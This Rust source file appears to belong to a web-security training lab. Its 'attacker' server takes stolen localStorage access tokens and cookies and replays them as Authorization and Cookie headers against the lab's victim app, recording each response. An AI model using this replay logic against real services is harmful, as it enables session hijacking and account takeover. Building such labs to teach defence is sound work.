//! Trying out what was stolen: a request from this server to the victim's, and no browser in it.

use std::sync::Arc;

use axum::extract::{Form, FromRequest, Path, Request, State};
use axum::http::{HeaderMap, HeaderName, HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Redirect, Response};
use axum::{Json, RequestExt as _};
use domain::Replay;
use serde::Deserialize;
use serde_json::Value;

use super::Attacker;

/// How much of an answer is kept, in bytes.
const KEPT: usize = 2 * 1024;

/// What a thief finds in a piece of loot: what to send as which header.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Stolen {
    pub(super) authorization: String,
    pub(super) cookie: String,
}

impl Stolen {
    /// Looks where payloads put it: `{"localStorage": {"access_token": …}, "cookie": …}`.
    pub(super) fn in_text(text: &str) -> Self {
        let found: Value = serde_json::from_str(text).unwrap_or_default();
        let access_token = found["localStorage"]["access_token"].as_str();
        Self {
            authorization: access_token.map(|token| format!("Bearer {token}")).unwrap_or_default(),
            cookie: found["cookie"].as_str().unwrap_or_default().to_owned(),
        }
    }
}

/// The lab's own cookie. It opens nothing: it says which sandbox's victim is meant.
const SANDBOX_COOKIE: &str = "__Host-sandbox";

/// What to send. A field that is empty is a header that is not sent.
#[derive(Deserialize)]
pub(super) struct ReplayForm {
    path: String,
    #[serde(default)]
    authorization: String,
    #[serde(default)]
    cookie: String,
    #[serde(default)]
    sandbox: String,
}

impl ReplayForm {
    /// An access token, for the victim in a sandbox.
    pub(super) fn bearer(path: String, access_token: &str, sandbox: String) -> Self {
        Self { path, authorization: format!("Bearer {access_token}"), cookie: String::new(), sandbox }
    }

    /// Every cookie in one header (RFC 6265 §5.4).
    fn cookies(&self) -> String {
        let sandbox = Some(&self.sandbox)
            .filter(|name| !name.is_empty())
            .map(|name| format!("{SANDBOX_COOKIE}={name}"));
        let stolen = Some(self.cookie.clone()).filter(|cookie| !cookie.is_empty());
        stolen.into_iter().chain(sandbox).collect::<Vec<_>>().join("; ")
    }
}

/// From the console it comes as a form, from a program as JSON.
impl<S: Send + Sync> FromRequest<S> for ReplayForm {
    type Rejection = StatusCode;

    async fn from_request(request: Request, _: &S) -> Result<Self, StatusCode> {
        let content_type = request.headers().get(header::CONTENT_TYPE);
        let body = if content_type.is_some_and(|value| value == "application/json") {
            request.extract().await.map(|Json(body)| body).ok()
        } else {
            request.extract().await.map(|Form(body)| body).ok()
        };
        body.ok_or(StatusCode::BAD_REQUEST)
    }
}

/// `POST /campaigns/{campaign}/replays`: sends it, notes what came back, and leads to the inbox again.
pub(super) async fn replay(
    State(attacker): State<Arc<Attacker>>,
    Path(name): Path<String>,
    form: ReplayForm,
) -> Response {
    if !form.path.starts_with('/') || attacker.campaigns().find(&name).is_none() {
        return StatusCode::NOT_FOUND.into_response();
    }
    try_out(&attacker, &name, form).await;
    Redirect::to(&format!("/campaigns/{name}")).into_response()
}

/// Sends it, and notes in a campaign what came back.
pub(super) async fn try_out(attacker: &Attacker, campaign: &str, form: ReplayForm) -> Replay {
    let (status, answer) = send(attacker, &form).await;
    let replay = Replay {
        number: 0,
        at: attacker.clock.now(),
        cookie: Some(form.cookies()).filter(|value| !value.is_empty()),
        path: form.path,
        authorization: Some(form.authorization).filter(|value| !value.is_empty()),
        status,
        answer,
    };
    attacker.campaigns().add_replay(campaign, replay.clone());
    replay
}

async fn send(attacker: &Attacker, form: &ReplayForm) -> (Option<u16>, String) {
    let request = attacker.client.get(format!("{}{}", attacker.victim, form.path)).headers(headers(form));
    match request.send().await {
        Ok(response) => {
            let status = response.status().as_u16();
            let bytes = response.bytes().await.unwrap_or_default();
            (Some(status), String::from_utf8_lossy(&bytes[..bytes.len().min(KEPT)]).into_owned())
        }
        Err(error) => (None, error.to_string()),
    }
}

fn headers(form: &ReplayForm) -> HeaderMap {
    let named = |name: HeaderName, value: &str| {
        let value = HeaderValue::try_from(value).ok().filter(|value| !value.is_empty())?;
        Some((name, value))
    };
    [named(header::AUTHORIZATION, &form.authorization), named(header::COOKIE, &form.cookies())]
        .into_iter()
        .flatten()
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_thief_finds_what_lies_open_and_nothing_else() {
        let open = r#"{"localStorage":{"access_token":"eyJ.a.b"},"cookie":"theme=dark"}"#;
        let stolen = Stolen::in_text(open);
        assert_eq!((stolen.authorization.as_str(), stolen.cookie.as_str()), ("Bearer eyJ.a.b", "theme=dark"));
        for text in ["", "{}", "[1]", "not JSON", r#"{"localStorage":{},"cookie":""}"#] {
            assert_eq!(Stolen::in_text(text), Stolen::default(), "{text}");
        }
    }
}
